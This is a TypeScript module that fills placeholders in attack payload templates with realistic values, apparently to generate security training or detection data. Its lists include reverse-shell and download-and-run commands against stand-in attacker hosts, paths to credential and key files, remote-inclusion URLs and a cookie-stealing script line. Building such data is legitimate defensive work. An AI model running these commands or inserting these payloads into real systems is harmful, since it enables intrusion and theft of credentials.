import type { Rng } from './rng.js';

/**
 * Realistic substitutions for the placeholders found in payload lists (`{FILE}`, `XXpathXX`,
 * `[SLEEPTIME]`, `{cmd}`, `{target}`, `[ATTACKER.DOMAIN.TLD]`, ...). A template with its
 * placeholder left in would teach the model that `XXpathXX` is the attack.
 */

/** Attacker-controlled hosts: reserved documentation names/ranges, so nothing real is named. */
export const ATTACKER_HOSTS = [
  'evil.example',
  'attacker.test',
  'x.oast.example',
  'c2.example.net',
  'exfil.attacker.test',
  'pwn.example.org',
  '203.0.113.66',
  '198.51.100.23',
  '192.0.2.45',
  'cdn-static.attacker.test',
  'a1b2c3.oast.example',
  'burp.evil.example',
] as const;

/** Remote scripts an RFI points at (the trailing `?` cuts off the app's own suffix). */
const RFI_URLS = [
  'http://{H}/shell.txt?',
  'http://{H}/c99.txt?',
  'https://{H}/r57.php?',
  'http://{H}/inc/x.txt??',
  'http://{H}:8080/{R}?',
  'ftp://{H}/pub/cmd.txt?',
  'http://{H}/{R}.txt%00',
  'https://{H}/s.php?cmd=id',
  'http://{H}/{R}.jpg?',
  '//{H}/share/x.php',
] as const;

/** Commands for `{cmd}` (Unix and Windows, the ones scanners actually send). */
export const INJECTED_COMMANDS = [
  'id',
  'whoami',
  'uname -a',
  'cat /etc/passwd',
  'ls -la /',
  'sleep 10',
  'ping -c 5 {H}',
  'ping -n 5 127.0.0.1',
  'nslookup {R}.{H}',
  'curl http://{H}/x.sh|sh',
  'wget http://{H}/bot -O /tmp/b',
  'nc -e /bin/sh {H} 4444',
  'bash -i >& /dev/tcp/{H}/4444 0>&1',
  'dir c:\\',
  'type C:\\Windows\\win.ini',
  'net user',
  'ipconfig /all',
  'powershell -enc SQBFAFgA',
  'echo {R}',
  'cat /proc/self/environ',
] as const;

/** Files a traversal reaches for (relative: the template supplies the leading separators). */
export const SENSITIVE_FILES = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'etc/group',
  'etc/issue',
  'proc/self/environ',
  'proc/self/cmdline',
  'proc/version',
  'var/log/apache2/access.log',
  'var/log/nginx/error.log',
  'var/www/html/wp-config.php',
  'root/.ssh/id_rsa',
  'root/.bash_history',
  'home/ubuntu/.aws/credentials',
  'windows/win.ini',
  'windows/system32/drivers/etc/hosts',
  'boot.ini',
  'winnt/win.ini',
  'inetpub/wwwroot/web.config',
  'WEB-INF/web.xml',
  'app/config/parameters.yml',
  '.env',
] as const;

const DB_NAMES = [
  'users',
  'admin',
  'accounts',
  'shop',
  'wp_users',
  'customers',
  'master',
  'information_schema',
];
const SQL_CONDITIONS = [
  '1=1',
  'ASCII(SUBSTRING(user(),1,1))>64',
  'LENGTH(database())>3',
  '(SELECT COUNT(*) FROM users)>0',
];

/** Pool of sensitive file names learnt from the data (bare file lists); merged into `SENSITIVE_FILES`. */
export interface TemplatePools {
  files: readonly string[];
}

/** Result of filling one text. */
export interface Filled {
  readonly text: string;
  /** Placeholders that were substituted (for provenance notes and counts). */
  readonly substituted: readonly string[];
}

const PLACEHOLDER_PATTERN =
  /\{FILE\}|\{file\}|XXpathXX|\{cmd\}|\{target\}|\{payload\}|\[ATTACKER\.DOMAIN\.TLD\]|<attacker IP>|<attacker port>|<yourservername>|<youremail>|\[SLEEPTIME\]|__TIME__|\[INFERENCE\]|\[RANDNUM\]|<DBNAME>|\[DBNAME\]|\[ROLE NAME\]|\{\{BaseURL\}\}|\{\{interactsh-url\}\}|whitelisteddomain\.tld|<ARBITRARY_JS_CODE>|\$PID|\$FD|\[ADD MORE\]|\[host\]|\[port\]|\{testStartsWith\}|\{fieldToLeak\}|<host>|<port>|<user>|<auth>|<word>|<database>|<n>|<UUID>|<version>|<path>|\[ID\]|\[type\]\[selector\]|\[BURP_COLLABORATOR_DOMAIN_CALLBACK\]/g;

/** The own-site domain used for `whitelisteddomain.tld` (the site the redirect pretends to stay on). */
const OWN_SITES = ['shop.example.com', 'www.acme-store.example', 'app.example.org', 'accounts.example.net'];

/** Replaces every known placeholder with a realistic value drawn from `rng`. */
export function fillTemplates(text: string, rng: Rng, pools?: TemplatePools): Filled {
  const substituted: string[] = [];
  const host = (): string => rng.pick(ATTACKER_HOSTS);
  const rand = (): string => rng.uint32().toString(36).slice(0, rng.int(4, 8));
  const files = pools && pools.files.length > 0 ? [...SENSITIVE_FILES, ...pools.files] : SENSITIVE_FILES;
  const expand = (template: string): string => template.replace(/\{H\}/g, host).replace(/\{R\}/g, rand);
  PLACEHOLDER_PATTERN.lastIndex = 0;
  const out = text.replace(PLACEHOLDER_PATTERN, (ph) => {
    substituted.push(ph);
    switch (ph) {
      case '{FILE}':
      case '{file}':
        return rng.pick(files).replace(/^(?:[A-Za-z]:)?[/\\]+/, '');
      case 'XXpathXX':
        return expand(rng.pick(RFI_URLS));
      case '{cmd}':
        return expand(rng.pick(INJECTED_COMMANDS));
      case '{target}':
      case '<host>':
      case '[BURP_COLLABORATOR_DOMAIN_CALLBACK]':
      case '[ATTACKER.DOMAIN.TLD]':
      case '<yourservername>':
      case '[host]':
      case '{{interactsh-url}}':
        return host();
      case '{payload}':
        return `//${host()}`;
      case '<attacker IP>':
        return rng.pick(['203.0.113.66', '198.51.100.23', '192.0.2.45']);
      case '<attacker port>':
      case '<port>':
      case '[port]':
        return String(rng.pick([4444, 1337, 8080, 9001, 53]));
      case '<youremail>':
        return `${rand()}@${host()}`;
      case '[SLEEPTIME]':
      case '__TIME__':
        return String(rng.int(3, 30));
      case '[INFERENCE]':
        return rng.pick(SQL_CONDITIONS);
      case '[RANDNUM]':
        return String(rng.int(1000, 9999));
      case '<DBNAME>':
      case '[DBNAME]':
        return rng.pick(DB_NAMES);
      case '[ROLE NAME]':
        return rng.pick(['ec2-default-ssm', 'admin-role', 'webapp-prod']);
      case '{{BaseURL}}':
        return '';
      case 'whitelisteddomain.tld':
        return rng.pick(OWN_SITES);
      case '<ARBITRARY_JS_CODE>':
        return rng.pick([
          'alert(document.domain)',
          'fetch(`//' + host() + '/?c=`+document.cookie)',
          'prompt(1)',
        ]);
      case '$PID':
        return rng.pick(['self', String(rng.int(1, 4000))]);
      case '$FD':
        return String(rng.int(0, 12));
      case '[ADD MORE]':
        return '';
      case '<user>':
        return rng.pick(['admin', 'root', 'default']);
      case '<auth>':
        return rng.pick(['secret', 'pass123']);
      case '<word>':
        return rng.pick(['foo', 'info', 'stats']);
      case '<database>':
        return '*';
      case '<n>':
        return '1';
      case '[ID]':
        return String(rng.int(0, 3));
      case '[type][selector]':
        return '_';
      case '<UUID>':
        return '4f8c1a2e-9d3b-4e57-a1c0-6b2d8e9f0a13';
      case '<version>':
        return 'latest';
      case '<path>':
        return rng.pick(['v1/keys', 'self/instance']);
      case '{testStartsWith}':
        return rng.pick(['a', 'pbkdf2', '$2b$']);
      case '{fieldToLeak}':
        return rng.pick(['password', 'resetToken', 'apiKey']);
      default:
        return ph;
    }
  });
  return { text: out, substituted };
}
